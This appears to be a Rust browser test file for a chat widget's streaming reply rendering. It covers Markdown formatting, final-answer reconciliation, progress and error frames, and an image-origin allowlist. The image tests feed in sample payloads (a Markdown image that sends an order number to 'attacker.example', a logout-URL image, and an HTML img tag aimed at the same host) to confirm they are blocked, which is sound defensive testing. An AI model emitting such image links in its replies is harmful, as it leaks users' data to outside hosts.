//! A streaming reply on screen, in a real Chromium: Markdown formatted as it arrives (only the
//! open tail redrawn), progress lines with their indicator, an `error` frame's message, legacy
//! raw text and `ui.streamingFormat: "text"` shown as plain text, and a final answer that keeps
//! the streamed nodes when it is the same Markdown but replaces them when it is not; images in
//! streamed and final answers only from the origins the transcript allows.
#![cfg(target_arch = "wasm32")]
#![allow(clippy::unwrap_used)] // tests: a panic is the failure report

use leptos::prelude::*;
use lexstream_client::components::TranscriptView;
use lexstream_client::config::StreamingFormat;
use lexstream_client::conversation::Conversation;
use lexstream_client::transcript::Transcript;
use lexstream_protocol::lex::{Message, MessageContentType};
use lexstream_protocol::render::policy::ImageOrigins;
use lexstream_protocol::{Frame, Incoming, parse_incoming};
use wasm_bindgen::JsCast;
use wasm_bindgen_test::*;
use web_sys::{Element, HtmlElement};

mod common;

use common::{UncaughtErrors, painted, tick};

wasm_bindgen_test_configure!(run_in_browser);

const TURN: &str = "turn-1-1";

struct Shown {
    host: Element,
    conversation: Conversation,
    _mounted: Box<dyn std::any::Any>,
}

impl Shown {
    fn reply(&self) -> HtmlElement {
        let replies = self.host.query_selector_all("[data-testid='bot-message']").unwrap();
        replies.item(replies.length() - 1).unwrap().unchecked_into()
    }

    fn streamed(&self) -> HtmlElement {
        self.reply().query_selector(".lxs-streamed").unwrap().unwrap().unchecked_into()
    }

    fn chunk(&self, seq: u64, text: &str) {
        self.frame(Frame::Chunk { turn: TURN.into(), seq, text: text.into(), done: false });
    }

    fn frame(&self, frame: Frame) {
        self.conversation.receive(Incoming::Frame(frame));
    }

    fn finalize(&self, content_type: MessageContentType, content: &str) {
        let message = Message::text(content_type, content);
        self.conversation.transcript.update(|t| t.finalize(TURN, &[message]));
    }
}

impl Drop for Shown {
    fn drop(&mut self) {
        self.host.remove();
    }
}

/// A transcript view with one question asked, its reply waiting.
async fn asked(format: StreamingFormat) -> Shown {
    asked_allowing_images(format, ImageOrigins::none()).await
}

/// A transcript view whose answers may show images from `images`, with one question asked.
async fn asked_allowing_images(format: StreamingFormat, images: ImageOrigins) -> Shown {
    let document = web_sys::window().unwrap().document().unwrap();
    let host = document.create_element("div").unwrap();
    document.body().unwrap().append_child(&host).unwrap();
    let mut transcript = Transcript::default().allowing_images_from(images);
    transcript.ask("Tell me", TURN);
    let conversation = Conversation::new(transcript);
    let handle = leptos::mount::mount_to(host.clone().unchecked_into(), move || {
        view! { <TranscriptView conversation=conversation format=format on_choose=Callback::new(|_: String| {}) /> }
            .into_any()
    });
    painted().await;
    Shown { host, conversation, _mounted: Box::new(handle) }
}

#[wasm_bindgen_test]
async fn a_log_taken_off_the_page_before_its_scroll_follows_throws_nothing() {
    let shown = asked(StreamingFormat::Markdown).await;
    let errors = UncaughtErrors::listen();
    // A new question: the log's effect asks for a screen frame to follow it to the bottom, and
    // the view goes (the visitor closed the panel) before that frame comes.
    shown.conversation.transcript.update(|t| t.ask("And then?", "turn-1-2"));
    tick().await;
    let log = shown.host.query_selector("[data-testid='transcript']").unwrap().unwrap();
    assert_eq!(log.query_selector_all("[data-testid='visitor-message']").unwrap().length(), 2);
    drop(shown);
    painted().await;
    assert_eq!(errors.seen(), Vec::<String>::new(), "nothing thrown after the view went");
}

#[wasm_bindgen_test]
async fn markdown_is_formatted_as_it_arrives_and_an_equal_final_answer_keeps_the_nodes() {
    let shown = asked(StreamingFormat::Markdown).await;
    assert_eq!(shown.reply().dataset().get("state").as_deref(), Some("waiting"));
    let answer = "Hello **world**.\n\n- one\n- two\n\n```\nlet x = 1;\n```\n\nSee [the docs](https://example.com/docs).";
    // Cut mid-bold and mid-link: what shows is formatted, never half a link.
    let cuts = [0, 9, 17, 40, 52, 63, 80, answer.len()];
    for (seq, pair) in cuts.windows(2).enumerate() {
        shown.chunk(seq as u64, &answer[pair[0]..pair[1]]);
        painted().await;
        let streamed = shown.streamed();
        assert_eq!(shown.reply().dataset().get("state").as_deref(), Some("streaming"));
        assert!(!streamed.inner_text().contains("**"), "{}", streamed.inner_html());
        for link in streamed.query_selector_all("a[href]").unwrap().values() {
            let href = link.unwrap().unchecked_into::<Element>().get_attribute("href").unwrap();
            assert_eq!(href, "https://example.com/docs", "only whole links are live");
        }
    }
    let streamed = shown.streamed();
    assert!(streamed.query_selector("strong").unwrap().is_some(), "{}", streamed.inner_html());
    assert_eq!(streamed.query_selector_all("ul > li").unwrap().length(), 2);
    assert!(streamed.query_selector("pre > code").unwrap().is_some());
    let first_block = streamed.first_element_child().unwrap();
    assert_eq!(first_block.tag_name(), "P");

    shown.finalize(MessageContentType::CustomPayload, answer);
    painted().await;
    assert_eq!(shown.reply().dataset().get("state").as_deref(), Some("final"));
    assert!(first_block.is_connected(), "the streamed nodes stay: no flicker");
    assert!(!shown.streamed().hidden());
    assert!(shown.reply().query_selector("a[rel='noopener noreferrer nofollow']").unwrap().is_some());
}

#[wasm_bindgen_test]
async fn a_final_answer_that_overtakes_the_last_frames_is_finished_on_the_streamed_nodes() {
    let shown = asked(StreamingFormat::Markdown).await;
    let answer = "First paragraph, streamed.\n\n- one\n- two\n\nThe **last** part never streamed.";
    let streamed_part = &answer[..answer.find("- two").unwrap()];
    shown.chunk(0, streamed_part);
    painted().await;
    let first_block = shown.streamed().first_element_child().unwrap();
    assert!(!shown.streamed().inner_text().contains("last part"));

    // Lex's answer comes back over HTTP while the stream's last frames are still on the socket.
    shown.finalize(MessageContentType::CustomPayload, answer);
    painted().await;
    let reply = shown.reply();
    assert_eq!(reply.dataset().get("state").as_deref(), Some("final"));
    assert!(first_block.is_connected(), "the streamed nodes stay: no flicker");
    let streamed = shown.streamed();
    assert!(!streamed.hidden());
    assert_eq!(streamed.query_selector_all("ul > li").unwrap().length(), 2, "{}", streamed.inner_html());
    assert_eq!(streamed.query_selector("strong").unwrap().unwrap().text_content().as_deref(), Some("last"));
    assert_eq!(
        reply.query_selector_all("p").unwrap().length(),
        2,
        "the answer shows once: {}",
        reply.inner_html()
    );

    // A late frame changes nothing: the answer is final.
    shown.chunk(1, "\n\nA late paragraph.");
    painted().await;
    assert!(!shown.reply().inner_text().contains("late paragraph"), "{}", shown.reply().inner_html());
    assert_eq!(shown.reply().query_selector_all("p").unwrap().length(), 2);
}

#[wasm_bindgen_test]
async fn an_answer_with_a_message_the_widget_cannot_show_still_keeps_the_streamed_nodes() {
    let shown = asked(StreamingFormat::Markdown).await;
    let answer = "First paragraph.\n\nThe **second** one.";
    shown.chunk(0, answer);
    painted().await;
    let first_block = shown.streamed().first_element_child().unwrap();
    let shown_answer = Message::text(MessageContentType::CustomPayload, answer);
    let unknown = Message::text(MessageContentType::Other("Audio".into()), "a message for another channel");
    shown.conversation.transcript.update(|t| t.finalize(TURN, &[shown_answer, unknown]));
    painted().await;
    assert_eq!(shown.reply().dataset().get("state").as_deref(), Some("final"));
    assert!(first_block.is_connected(), "the streamed nodes stay: no flicker");
    assert!(!shown.streamed().hidden());
    assert_eq!(shown.reply().query_selector_all("p").unwrap().length(), 2, "{}", shown.reply().inner_html());
}

#[wasm_bindgen_test]
async fn a_different_final_answer_replaces_the_streamed_text_in_one_step() {
    let shown = asked(StreamingFormat::Markdown).await;
    shown.chunk(0, "A first draft.\n\nMore");
    painted().await;
    shown.finalize(MessageContentType::CustomPayload, "The **real** answer.");
    painted().await;
    let reply = shown.reply();
    assert_eq!(reply.dataset().get("state").as_deref(), Some("final"));
    assert!(shown.streamed().hidden(), "the streamed text is gone");
    assert_eq!(reply.inner_text().trim(), "The real answer.");
}

#[wasm_bindgen_test]
async fn progress_lines_and_an_error_frame_are_shown_while_streaming() {
    let shown = asked(StreamingFormat::Markdown).await;
    shown.frame(Frame::Progress { turn: TURN.into(), seq: 0, text: "Searching the docs…".into() });
    painted().await;
    let progress = shown.reply().query_selector(".lxs-progress").unwrap().expect("a progress line");
    assert_eq!(progress.text_content().as_deref(), Some("Searching the docs…"));

    shown.chunk(1, "Partial answer");
    shown.frame(Frame::Error {
        turn: TURN.into(),
        seq: 2,
        message: "The model is busy. Please try again.".into(),
    });
    painted().await;
    let reply = shown.reply();
    assert!(reply.query_selector(".lxs-progress").unwrap().is_none(), "text replaced the progress line");
    let error = reply.query_selector(".lxs-stream-error[role='alert']").unwrap().expect("the error is shown");
    assert_eq!(error.text_content().as_deref(), Some("The model is busy. Please try again."));
    assert!(shown.streamed().inner_text().contains("Partial answer"));
}

#[wasm_bindgen_test]
async fn legacy_raw_text_and_the_text_format_stay_plain_text() {
    let legacy = asked(StreamingFormat::Markdown).await;
    legacy.conversation.receive(parse_incoming("**raw** <b>text</b>"));
    legacy.chunk(0, " then v1");
    painted().await;
    let streamed = legacy.streamed();
    assert_eq!(streamed.text_content().unwrap(), "**raw** <b>text</b> then v1");
    assert!(streamed.query_selector("b, strong").unwrap().is_none());
    drop(legacy);

    let text = asked(StreamingFormat::Text).await;
    text.chunk(0, "# Not a heading\n**not bold**");
    painted().await;
    let streamed = text.streamed();
    assert_eq!(streamed.dataset().get("format").as_deref(), Some("text"));
    assert_eq!(streamed.text_content().unwrap(), "# Not a heading\n**not bold**");
    text.finalize(MessageContentType::CustomPayload, "# Not a heading\n**not bold**");
    painted().await;
    assert!(text.reply().query_selector("h1").unwrap().is_some(), "the final answer is formatted");
}

/// The `src` of every image under `element`.
fn image_sources(element: &Element) -> Vec<String> {
    let images = element.query_selector_all("img").unwrap();
    (0..images.length())
        .filter_map(|index| images.item(index)?.unchecked_into::<Element>().get_attribute("src"))
        .collect()
}

#[wasm_bindgen_test]
async fn images_load_only_from_the_allowed_origins_while_streaming_and_in_the_final_answer() {
    // A loopback origin that refuses connections: the allowed image is requested, nothing leaves.
    let allowed = "http://127.0.0.1:9/chart.png";
    let images = ImageOrigins::parse(&["http://127.0.0.1:9"]).unwrap();
    let shown = asked_allowing_images(StreamingFormat::Markdown, images).await;
    let answer = format!(
        "![the chart]({allowed})\n\nYour order ![4711](https://attacker.example/?q=4711) and \
         ![logout](/account/logout) shipped.\n\nDone."
    );
    shown.chunk(0, &answer);
    painted().await;
    assert_eq!(image_sources(&shown.streamed()), [allowed], "{}", shown.streamed().inner_html());
    assert!(shown.streamed().inner_text().contains("Your order 4711 and logout shipped."));

    shown.finalize(MessageContentType::CustomPayload, &answer);
    painted().await;
    assert_eq!(image_sources(&shown.reply()), [allowed], "{}", shown.reply().inner_html());
    assert!(shown.reply().inner_text().contains("Your order 4711 and logout shipped."));
}

#[wasm_bindgen_test]
async fn an_html_answer_shows_images_from_elsewhere_as_their_alt_text() {
    let images = ImageOrigins::parse(&["http://127.0.0.1:9"]).unwrap();
    let shown = asked_allowing_images(StreamingFormat::Markdown, images).await;
    shown.finalize(
        MessageContentType::CustomPayload,
        "<p><img src=\"http://127.0.0.1:9/a.png\" alt=\"kept\"> <img src=\"https://attacker.example/x\" alt=\"as text\"></p>",
    );
    painted().await;
    let reply = shown.reply();
    assert_eq!(image_sources(&reply), ["http://127.0.0.1:9/a.png"], "{}", reply.inner_html());
    assert!(reply.inner_text().contains("as text"), "{}", reply.inner_html());
}
